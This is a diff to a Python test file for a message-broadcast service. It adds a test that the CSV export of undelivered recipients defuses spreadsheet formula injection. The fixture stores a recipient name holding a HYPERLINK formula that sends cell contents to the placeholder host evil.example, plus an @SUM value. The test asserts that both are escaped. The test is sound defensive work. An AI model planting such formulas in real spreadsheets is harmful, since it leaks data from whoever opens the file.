@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Callable
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -146,6 +148,28 @@ async def test_photo_rows(
         [row] = await outbox(u, broadcast_id=made.id)
     assert row.method == "sendPhoto"
     assert row.payload == {"chat_id": 101, "photo": "FILE", "parse_mode": "HTML", "caption": "a&lt;b"}
+
+
+async def test_undelivered_list_defuses_names_a_spreadsheet_would_run(
+    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
+) -> None:
+    """A recipient named like a formula lands in staff's Excel as text, not as a live HYPERLINK."""
+    staff_id = await seeded(sessionmaker, uow)
+    bid = await make(uow, staff_id, svc.Audience("deputies"), "hello")
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    async with uow() as u:
+        await u.session.execute(update(Person).where(Person.telegram_id == 201).values(name=evil))
+        await u.session.execute(update(Person).where(Person.telegram_id == 202).values(name=" @SUM(1+1)"))
+        await u.session.execute(
+            update(OutboxMessage).where(OutboxMessage.broadcast_id == bid).values(status=OutboxStatus.FAILED)
+        )
+        await u.commit()
+    async with uow() as u:
+        _count, text = await svc.undelivered_csv(u, bid)
+    rows = list(csv.reader(io.StringIO(text)))
+    names = {row[0]: row[1] for row in rows[1:]}
+    assert names["201"] == "'" + evil and names["202"] == "' @SUM(1+1)"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
 
 
 async def test_progress_edits_then_done_and_report(
